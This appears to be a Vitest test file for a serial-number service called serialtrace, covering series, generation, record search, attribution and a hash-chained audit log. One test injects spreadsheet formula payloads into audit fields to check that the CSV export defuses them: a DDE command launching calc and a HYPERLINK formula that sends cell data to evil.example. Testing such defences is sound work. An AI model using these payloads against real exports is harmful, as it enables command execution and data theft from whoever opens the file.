import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectProblem, openApp, type Credentials, type TestApp } from './helper.js';

/** Series, generation, records and the audit trail over HTTP, as engineers, operators and auditors use them. */

let t: TestApp;
let engineer: Credentials;
let operator: Credentials & { id: string };
let auditor: Credentials;
let viewer: Credentials;
beforeAll(async () => {
  t = await openApp();
  engineer = await t.key('engineer');
  operator = await t.key('operator', { name: 'Line 1 marker', station: 'ST-KEY' });
  auditor = await t.key('auditor');
  viewer = await t.key('viewer');
});
afterAll(async () => {
  await t.close();
});

const generate = async (series: string, body: Record<string, unknown> = {}, headers: Record<string, string> = {}, as: Credentials = operator) => {
  const answer = await t.call('POST', `/api/v1/series/${encodeURIComponent(series)}/serials`, { as, body, headers });
  expect(answer.status, answer.body).toBe(201);
  return answer.json as { serials: string[]; replayed: boolean; period: string; series: string; skipped: number };
};

describe('series', () => {
  it('an engineer creates a series from camelCase fields and reads it back', async () => {
    const created = await t.call('POST', '/api/v1/series', {
      as: engineer,
      body: {
        name: 'Widgets',
        description: 'Widget housings',
        format: 'SN-{YYYY}{MM}-{#####}',
        base: 'numeric',
        start: 100,
        increment: 1,
        minLength: 5,
        reset: 'monthly',
        timeZone: 'Europe/Berlin',
        global: false,
        allowGrowth: false,
      },
    });
    expect(created.status, created.body).toBe(201);
    expect(created.json).toMatchObject({
      name: 'Widgets',
      description: 'Widget housings',
      format: 'SN-{YYYY}{MM}-{#####}',
      base: 'numeric',
      start: '100',
      increment: '1',
      minLength: 5,
      reset: 'monthly',
      timeZone: 'Europe/Berlin',
      shiftStarts: null,
      global: false,
      allowGrowth: false,
      version: 1,
      current: { period: '2025-06', value: '100' },
      capacity: { perPeriod: '99899', used: '0', level: 'ok' },
    });
    expect(created.json.createdBy).toMatch(/^key:engineer key \d+#[0-9a-f]{12}$/);

    const shift = await t.call('POST', '/api/v1/series', {
      as: engineer,
      body: { name: 'Shifts', format: 'S{YY}{JJJ}{SHIFT}{####}', reset: 'shift', shiftStarts: ['A=00:00', 'B=08:00', 'C=16:00'], timeZone: 'UTC' },
    });
    expect(shift.status, shift.body).toBe(201);
    expect(shift.json.shiftStarts).toEqual([
      { label: 'A', start: '00:00' },
      { label: 'B', start: '08:00' },
      { label: 'C', start: '16:00' },
    ]);

    expect((await t.call('GET', '/api/v1/series', { as: viewer })).json.series.map((s: { name: string }) => s.name)).toEqual(
      expect.arrayContaining(['Widgets', 'Shifts']),
    );
    expect((await t.call('GET', '/api/v1/series/Widgets', { as: viewer })).json).toMatchObject({ name: 'Widgets', version: 1 });
    expect((await t.call('GET', '/api/v1/series/Widgets/capacity', { as: viewer })).json).toMatchObject({ period: '2025-06', value: '100', capacity: { used: '0' } });
  });

  it('previews a stored series and a definition without consuming anything', async () => {
    const next = await t.call('POST', '/api/v1/series/Widgets/preview', { as: viewer, body: { count: 3 } });
    expect(next.json).toMatchObject({ serials: ['SN-202506-00101', 'SN-202506-00102', 'SN-202506-00103'], period: '2025-06', truncated: false });
    const at = await t.call('POST', '/api/v1/series/Widgets/preview', { as: viewer, body: { count: 1, at: '2025-12-31T23:30:00Z' } });
    expect(at.json.serials).toEqual(['SN-202601-00101']);
    const definition = await t.call('POST', '/api/v1/series/preview', { as: viewer, body: { series: { format: 'A-{LINE}-{###}', minLength: 3 }, count: 2, context: { LINE: 'L7' } } });
    expect(definition.json.serials).toEqual(['A-L7-001', 'A-L7-002']);
    expect((await t.call('GET', '/api/v1/series/Widgets/capacity', { as: viewer })).json.value).toBe('100');
  });

  it('changes a series as a new version that keeps who and why', async () => {
    const changed = await t.call('PATCH', '/api/v1/series/Widgets', {
      as: engineer,
      body: { description: 'Widget housings, plant 2' },
      headers: { 'serialtrace-reason': 'ECO-77' },
    });
    expect(changed.json).toMatchObject({ version: 2, description: 'Widget housings, plant 2' });
    const versions = (await t.call('GET', '/api/v1/series/Widgets/versions', { as: viewer })).json.versions;
    expect(versions.map((v: { version: number }) => v.version).sort()).toEqual([1, 2]);
    expect(versions.find((v: { version: number }) => v.version === 2)).toMatchObject({ reason: 'ECO-77', settings: { description: 'Widget housings, plant 2' } });
    // A series with a name that needs encoding in a path.
    expect((await t.call('POST', '/api/v1/series', { as: engineer, body: { name: 'Line 3/B', format: 'L3B-{####}' } })).status).toBe(201);
    expect((await t.call('GET', `/api/v1/series/${encodeURIComponent('Line 3/B')}`, { as: viewer })).json.name).toBe('Line 3/B');
  });
});

describe('generation', () => {
  it('issues one serial, or a batch with work order, part number, context and metadata', async () => {
    expect(await generate('Widgets')).toEqual({ series: 'Widgets', serials: ['SN-202506-00101'], period: '2025-06', skipped: 0, replayed: false });
    const batch = await generate('Widgets', { quantity: 3, workOrder: 'WO-1', partNumber: 'PN-9', context: { LINE: 'L1', lot: 7 }, metadata: { colour: 'red' } });
    expect(batch.serials).toEqual(['SN-202506-00102', 'SN-202506-00103', 'SN-202506-00104']);
    const record = (await t.call('GET', '/api/v1/records/SN-202506-00103', { as: viewer })).json;
    expect(record).toMatchObject({
      serial: 'SN-202506-00103',
      series: 'Widgets',
      sequence: '103',
      status: 'generated',
      workOrder: 'WO-1',
      partNumber: 'PN-9',
      context: { LINE: 'L1', LOT: '7' },
      metadata: { colour: 'red' },
      generatedBy: `key:Line 1 marker#${operator.id}`,
      station: 'ST-KEY',
    });
    const shift = await generate('Shifts', {}, {}, operator);
    expect(shift.serials).toEqual(['S25166B0001']);
  });

  it('replays the first answer for a repeated Idempotency-Key, and issues nothing new', async () => {
    const headers = { 'idempotency-key': 'order-42-label-1' };
    const first = await generate('Widgets', { quantity: 2, workOrder: 'WO-42' }, headers);
    const again = await generate('Widgets', { quantity: 2, workOrder: 'WO-42' }, headers);
    expect(again).toEqual({ ...first, replayed: true });
    expect((await t.call('GET', '/api/v1/records', { as: viewer, query: { workOrder: 'WO-42' } })).json.records).toHaveLength(2);
    expectProblem(
      await t.call('POST', '/api/v1/series/Widgets/serials', { as: operator, body: { quantity: 2, workOrder: 'WO-43' }, headers }),
      409,
      'IDEMPOTENCY_KEY_REUSED',
    );
    expect(expectProblem(await t.call('POST', '/api/v1/series/Widgets/serials', { as: operator, body: {}, headers: { 'idempotency-key': 'has space' } }), 422, 'VALUE_INVALID')).toMatchObject({
      field: 'idempotencyKey',
    });
  });
});

describe('records', () => {
  const day = (iso: string) => t.clock.set(iso);

  it('answers {records, nextCursor}, filtered by every query parameter, newest first, paged by cursor', async () => {
    expect((await t.call('POST', '/api/v1/series', { as: engineer, body: { name: 'Search', format: 'Q-{####}', timeZone: 'UTC' } })).status).toBe(201);
    try {
      day('2025-06-10T08:00:00Z');
      await generate('Search', { quantity: 3, workOrder: 'WO-A', partNumber: 'PN-1' });
      day('2025-06-11T08:00:00Z');
      await generate('Search', { quantity: 4, workOrder: 'WO-B', partNumber: 'PN-2' });
      day('2025-06-12T08:00:00Z');
      await generate('Search', { quantity: 2, workOrder: 'WO-A', partNumber: 'PN-2' });
    } finally {
      day('2025-06-15T10:00:00Z');
    }
    await t.call('POST', '/api/v1/records/Q-0002/status', { as: operator, body: { status: 'printed' } });
    await t.call('POST', '/api/v1/records/Q-0005/status', { as: operator, body: { status: 'printed' } });

    const search = async (query: Record<string, string>) => {
      const answer = await t.call('GET', '/api/v1/records', { as: viewer, query: { series: 'Search', ...query } });
      expect(answer.status, answer.body).toBe(200);
      return answer.json as { records: { serial: string }[]; nextCursor: string | null };
    };
    const serials = async (query: Record<string, string>) => (await search(query)).records.map((r) => r.serial);

    expect(await serials({})).toEqual(['Q-0009', 'Q-0008', 'Q-0007', 'Q-0006', 'Q-0005', 'Q-0004', 'Q-0003', 'Q-0002', 'Q-0001']);
    expect(await serials({ workOrder: 'WO-A' })).toEqual(['Q-0009', 'Q-0008', 'Q-0003', 'Q-0002', 'Q-0001']);
    expect(await serials({ partNumber: 'PN-2', workOrder: 'WO-B' })).toEqual(['Q-0007', 'Q-0006', 'Q-0005', 'Q-0004']);
    expect(await serials({ status: 'printed' })).toEqual(['Q-0005', 'Q-0002']);
    expect(await serials({ q: '000' })).toHaveLength(9);
    expect(await serials({ q: 'WO-B' })).toHaveLength(4);
    expect(await serials({ from: '2025-06-11T00:00:00Z', to: '2025-06-12T00:00:00Z' })).toEqual(['Q-0007', 'Q-0006', 'Q-0005', 'Q-0004']);

    const pages: string[][] = [];
    let cursor: string | null = null;
    do {
      const page: { records: { serial: string }[]; nextCursor: string | null } = await search({ limit: '4', ...(cursor === null ? {} : { cursor }) });
      pages.push(page.records.map((r) => r.serial));
      cursor = page.nextCursor;
    } while (cursor !== null);
    expect(pages).toEqual([['Q-0009', 'Q-0008', 'Q-0007', 'Q-0006'], ['Q-0005', 'Q-0004', 'Q-0003', 'Q-0002'], ['Q-0001']]);

    expect(expectProblem(await t.call('GET', '/api/v1/records', { as: viewer, query: { status: 'lost' } }), 422, 'STATUS_UNKNOWN')).toMatchObject({ field: 'status' });
    expect(expectProblem(await t.call('GET', '/api/v1/records', { as: viewer, query: { from: 'yesterday' } }), 422, 'VALUE_INVALID')).toMatchObject({ field: 'from' });
    expect(expectProblem(await t.call('GET', '/api/v1/records', { as: viewer, query: { cursor: 'forged' } }), 422, 'VALUE_INVALID')).toMatchObject({ field: 'cursor' });
    expectProblem(await t.call('GET', '/api/v1/records', { as: viewer, query: { limit: '0' } }), 422, 'VALUE_INVALID');
    expectProblem(await t.call('GET', '/api/v1/records', { as: viewer, query: { series: 'Nope' } }), 404, 'SERIES_NOT_FOUND');

    // The count agrees with the search for the same filters, and refuses the same bad ones.
    const count = async (query: Record<string, string>) => {
      const answer = await t.call('GET', '/api/v1/record-count', { as: viewer, query: { series: 'Search', ...query } });
      expect(answer.status, answer.body).toBe(200);
      return answer.json as { count: number; capped: boolean };
    };
    for (const query of [{}, { workOrder: 'WO-A' }, { partNumber: 'PN-2', workOrder: 'WO-B' }, { status: 'printed' }, { q: 'WO-B' }, { from: '2025-06-11T00:00:00Z', to: '2025-06-12T00:00:00Z' }] as Record<string, string>[]) {
      expect(await count(query), JSON.stringify(query)).toEqual({ count: (await serials(query)).length, capped: false });
    }
    expect(expectProblem(await t.call('GET', '/api/v1/record-count', { as: viewer, query: { status: 'lost' } }), 422, 'STATUS_UNKNOWN')).toMatchObject({ field: 'status' });
    expectProblem(await t.call('GET', '/api/v1/record-count', { as: viewer, query: { limit: '5' } }), 400, 'REQUEST_INVALID');
    expectProblem(await t.call('GET', '/api/v1/record-count', { as: viewer, query: { series: 'Nope' } }), 404, 'SERIES_NOT_FOUND');

    const workOrder = await t.call('GET', '/api/v1/work-orders/WO-A/records', { as: viewer });
    expect(workOrder.json.records.map((r: { serial: string }) => r.serial)).toEqual(['Q-0001', 'Q-0002', 'Q-0003', 'Q-0008', 'Q-0009']);
  });

  it('moves a record along its lifecycle with reason and data, keeping its history and audit entries', async () => {
    const [serial] = (await generate('Widgets')).serials as [string];
    const printed = await t.call('POST', `/api/v1/records/${serial}/status`, {
      as: operator,
      body: { status: 'printed', reason: 'label run 5', data: { printer: 'P-2' } },
      headers: { 'serialtrace-station': 'PRINT-1' },
    });
    expect(printed.status, printed.body).toBe(200);
    expect(printed.json).toMatchObject({ serial, status: 'printed' });
    const details = (await t.call('GET', `/api/v1/records/${serial}`, { as: viewer })).json;
    expect(details.history).toEqual([
      expect.objectContaining({ from: null, to: 'generated', station: 'ST-KEY' }),
      expect.objectContaining({ from: 'generated', to: 'printed', reason: 'label run 5', station: 'PRINT-1', data: { printer: 'P-2' }, actor: `key:Line 1 marker#${operator.id}` }),
    ]);
    expect(details.audit.map((e: { action: string }) => e.action)).toEqual(['serials.generated', 'record.status_changed']);
    expect((await t.call('GET', `/api/v1/records/${serial}`, { as: viewer, query: { series: 'Widgets' } })).json.serial).toBe(serial);
  });
});

describe('attribution: who, where and why go into every audit entry', () => {
  const latest = async () => (await t.call('GET', '/api/v1/audit', { as: auditor, query: { limit: '1' } })).json.entries[0];

  it('a key\'s generation carries its actor and the request\'s station, line, plant and reason', async () => {
    await generate('Widgets', { quantity: 2 }, { 'serialtrace-station': 'ST-9', 'serialtrace-line': 'L3', 'serialtrace-plant': 'Plant 2', 'serialtrace-reason': 'rework' });
    expect(await latest()).toMatchObject({
      action: 'serials.generated',
      actor: `key:Line 1 marker#${operator.id}`,
      station: 'ST-9',
      line: 'L3',
      plant: 'Plant 2',
      reason: 'rework',
    });
  });

  it('the key\'s own station is used when the request names none', async () => {
    const { serials } = await generate('Widgets');
    expect(await latest()).toMatchObject({ actor: `key:Line 1 marker#${operator.id}`, station: 'ST-KEY', reason: null, line: null });
    expect((await t.call('GET', `/api/v1/records/${serials[0]}`, { as: viewer })).json.station).toBe('ST-KEY');
  });

  it('a status change records the reason of the body, or else of the header', async () => {
    const { serials } = await generate('Widgets', { quantity: 2 });
    await t.call('POST', `/api/v1/records/${serials[0]}/status`, { as: operator, body: { status: 'voided', reason: 'smudged label' }, headers: { 'serialtrace-reason': 'header reason' } });
    expect(await latest()).toMatchObject({ action: 'record.status_changed', reason: 'smudged label', station: 'ST-KEY' });
    await t.call('POST', `/api/v1/records/${serials[1]}/status`, { as: operator, body: { status: 'scrapped' }, headers: { 'serialtrace-reason': 'dropped', 'serialtrace-station': 'QA-1' } });
    expect(await latest()).toMatchObject({ action: 'record.status_changed', reason: 'dropped', station: 'QA-1' });
  });

  it('a user\'s change names the user', async () => {
    const user = await t.user('engineer', { username: 'erin' });
    await t.call('POST', '/api/v1/series', { as: user, body: { name: 'Erin', format: 'E{####}' }, headers: { 'serialtrace-station': 'desk 4', 'serialtrace-reason': 'new product' } });
    expect(await latest()).toMatchObject({ action: 'series.created', actor: 'user:erin', station: 'desk 4', reason: 'new product' });
    const keyCreated = await t.call('POST', '/api/v1/api-keys', { as: t.admin, body: { name: 'Line 9', role: 'operator' }, headers: { 'serialtrace-reason': 'new line' } });
    expect(await latest()).toMatchObject({ action: 'api_key.created', entityId: keyCreated.json.id, actor: 'user:admin', reason: 'new line' });
  });
});

describe('audit', () => {
  it('lists newest first, filtered, one page at a time', async () => {
    const first = await t.call('GET', '/api/v1/audit', { as: auditor, query: { limit: '3' } });
    expect(first.json.entries).toHaveLength(3);
    const seqs = first.json.entries.map((e: { seq: number }) => e.seq);
    expect(seqs).toEqual([...seqs].sort((a, b) => b - a));
    const second = await t.call('GET', '/api/v1/audit', { as: auditor, query: { limit: '3', cursor: first.json.nextCursor } });
    expect(second.json.entries[0].seq).toBe(seqs[2] - 1);
    const created = await t.call('GET', '/api/v1/audit', { as: auditor, query: { action: 'series.created' } });
    expect(created.json.entries.map((e: { data: { settings: { name: string } } }) => e.data.settings.name)).toEqual(['Erin', 'Search', 'Line 3/B', 'Shifts', 'Widgets']);
    expect(created.json.nextCursor).toBeNull();
    const widgets = (await t.call('GET', '/api/v1/series/Widgets', { as: viewer })).json;
    const byEntity = await t.call('GET', '/api/v1/audit', { as: auditor, query: { entityType: 'series', entityId: String(widgets.id) } });
    expect(byEntity.json.entries.every((e: { entityId: string }) => e.entityId === String(widgets.id))).toBe(true);
    expectProblem(await t.call('GET', '/api/v1/audit', { as: auditor, query: { limit: '1001' } }), 400, 'REQUEST_INVALID');
  });

  it('exports every entry in chain order as JSON or CSV, as a download', async () => {
    const json = await t.call('GET', '/api/v1/audit/export', { as: auditor });
    expect(json.status).toBe(200);
    expect(json.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(json.headers['content-disposition']).toMatch(/^attachment; filename="serialtrace-audit-\d{4}-\d{2}-\d{2}\.json"$/);
    const entries = json.json as { seq: number; hash: string; prevHash: string }[];
    expect(entries.map((e) => e.seq)).toEqual(entries.map((_, i) => i + 1));
    entries.slice(1).forEach((e, i) => expect(e.prevHash).toBe(entries[i]!.hash));

    const csv = await t.call('GET', '/api/v1/audit/export', { as: auditor, query: { format: 'csv' } });
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toMatch(/^attachment; filename="serialtrace-audit-\d{4}-\d{2}-\d{2}\.csv"$/);
    const lines = csv.body.trimEnd().split('\n');
    expect(lines[0]).toBe('seq,at,actor,station,line,plant,reason,action,entityType,entityId,data,prevHash,hash');
    expect(lines[1]).toMatch(/^1,2025-06-15T10:00:00.000Z,serialtrace,,,,first start,user.created,/);
    expect(lines.at(-1)!.endsWith(entries.at(-1)!.hash)).toBe(true);
  });

  it('defuses cells a spreadsheet would run as a formula in the CSV export, and keeps them exact in JSON', async () => {
    const [serial] = (await generate('Widgets', {}, { 'serialtrace-station': "+cmd|' /C calc'!A0" })).serials;
    const reason = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    expect((await t.call('POST', `/api/v1/records/${serial}/status`, { as: t.admin, body: { status: 'voided', reason } })).status).toBe(200);
    const csv = (await t.call('GET', '/api/v1/audit/export', { as: auditor, query: { format: 'csv' } })).body;
    const cells = csv.trimEnd().split('\n').slice(-2).join('\n');
    expect(cells).toContain(`,'+cmd|' /C calc'!A0,`);
    expect(cells).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
    expect(csv).not.toMatch(/(^|,)[=+@-]/m);
    const entries = (await t.call('GET', '/api/v1/audit/export', { as: auditor })).json as { reason: string | null; station: string | null }[];
    expect(entries.at(-1)!.reason).toBe(reason);
    expect(entries.at(-2)!.station).toBe("+cmd|' /C calc'!A0");
  });

  it('verifies the chain, and names the first broken link after tampering', async () => {
    const valid = (await t.call('GET', '/api/v1/audit/verify', { as: auditor })).json;
    const count = (await t.call('GET', '/api/v1/audit/export', { as: auditor })).json.length;
    expect(valid).toMatchObject({ valid: true, checked: count, firstBreak: null, head: { seq: count } });
    t.raw().prepare("UPDATE journal SET actor = 'mallory' WHERE company_id = 1 AND seq = 3").run();
    const broken = (await t.call('GET', '/api/v1/audit/verify', { as: auditor })).json;
    expect(broken).toMatchObject({ valid: false, checked: count, head: { seq: 2 }, firstBreak: { seq: 3, reason: 'hash_mismatch' } });
  });
});

describe('what one request may write', () => {
  it('refuses 16 KiB of metadata for 10,000 serials (160 MB of copies) with METADATA_TOO_LARGE, and writes nothing', async () => {
    expect((await t.call('POST', '/api/v1/series', { as: engineer, body: { name: 'Bulk', format: 'B-{######}' } })).status).toBe(201);
    const metadata = { blob: 'x'.repeat(16 * 1024 - 20) };
    const answer = await t.call('POST', '/api/v1/series/Bulk/serials', { as: operator, body: { quantity: 10_000, metadata } });
    const problem = expectProblem(answer, 422, 'METADATA_TOO_LARGE');
    expect(problem).toMatchObject({ field: 'metadata', limit: 8 * 1024 * 1024 });
    expect(problem.bytes).toBeGreaterThan(160_000_000);
    expect((await t.call('GET', '/api/v1/series/Bulk/capacity', { as: operator })).json.value).toBe('0');
    // The same metadata on a few records is fine; so is small metadata on many.
    expect((await t.call('POST', '/api/v1/series/Bulk/serials', { as: operator, body: { quantity: 10, metadata } })).status).toBe(201);
    expect((await t.call('POST', '/api/v1/series/Bulk/serials', { as: operator, body: { quantity: 10_000, metadata: { lot: 'L-42', line: 3 } } })).status).toBe(201);
  });

  it('refuses metadata over 16 KiB per record with METADATA_TOO_LARGE', async () => {
    const answer = await t.call('POST', '/api/v1/series/Bulk/serials', { as: operator, body: { metadata: { blob: 'x'.repeat(17 * 1024) } } });
    expect(expectProblem(answer, 422, 'METADATA_TOO_LARGE')).toMatchObject({ field: 'metadata', limit: 16 * 1024 });
  });
});
